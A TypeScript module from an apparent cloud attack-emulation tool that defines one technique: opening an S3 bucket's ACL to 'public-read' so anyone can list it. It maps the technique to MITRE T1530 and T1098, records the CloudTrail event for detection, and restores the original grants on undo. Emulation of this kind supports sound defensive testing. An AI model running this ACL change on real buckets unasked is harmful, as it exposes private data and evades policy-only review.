import { z } from 'zod';
import type { AttackTechnique } from '../../../technique.ts';

const inputs = z.object({ bucket: z.string().min(3).max(63) });

/** The older door beside the policy: whoever only reads policies does not see it open. */
export const technique: AttackTechnique<z.infer<typeof inputs>> = {
  id: 'collection.bucket-acl-opened',
  title: 'Let everybody list a bucket by its access control list',
  purpose:
    'The names of all objects are there for anyone, and the bucket policy says nothing of it.',
  mitre: ['T1530', 'T1098'],
  sources: [
    {
      title: 'Data from Cloud Storage, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1530/',
    },
    {
      title: 'PutBucketAcl, Amazon S3 API Reference',
      url: 'https://docs.aws.amazon.com/AmazonS3/latest/API/API_PutBucketAcl.html',
    },
  ],
  inputs,
  actsAs: 'insider',
  needsStage: { bucket: { takesAcls: true } },
  needs: ['s3:PutBucketAcl'],
  leaves: [{ service: 's3.amazonaws.com', name: 'PutBucketAcl', outcome: 'succeeds' }],
  repeatable: true,
  async detonate({ inputs: { bucket }, aws, say }) {
    say(`Let everybody list ${bucket}`);
    await aws.s3().putBucketAcl({ Bucket: bucket, ACL: 'public-read' });
  },
  undo: {
    kind: 'call',
    async plan({ inputs: { bucket: Bucket }, aws }) {
      const { Grants, Owner } = await aws.s3().getBucketAcl({ Bucket });
      return async () => {
        await aws.s3().putBucketAcl({ Bucket, AccessControlPolicy: { Grants, Owner } });
      };
    },
  },
};
